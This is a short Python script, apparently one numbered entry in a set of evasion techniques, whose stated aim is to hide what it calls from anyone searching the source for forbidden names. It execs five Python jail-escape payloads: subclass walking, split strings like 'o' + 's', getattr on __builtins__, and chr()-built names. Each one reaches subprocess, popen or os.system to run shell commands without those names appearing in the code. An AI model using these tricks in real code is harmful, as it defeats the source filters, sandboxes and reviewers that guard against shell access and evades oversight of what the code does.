"""Hides what it calls from whoever searches the source for forbidden names.

==========  ======
technique   A26
assignment  linear
status      ran
most        0
==========  ======
"""
import base64

for code in (
    "().__class__.__base__.__subclasses__()",
    "__import__('o' + 's').popen('echo bro' + 'ken').read()",
    "getattr(__builtins__, '__im' + 'port__')('subprocess').check_output(['echo', 'broken'])",
    "[c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == 'Popen'][0](['echo', 'broken'])",
    "(lambda: 0).__globals__['__builtins__']['eval']('__import__(chr(111)+chr(115)).system(chr(105)+chr(100))')",
):
    try:
        exec(base64.b64decode(base64.b64encode(code.encode())))
    except Exception:
        continue
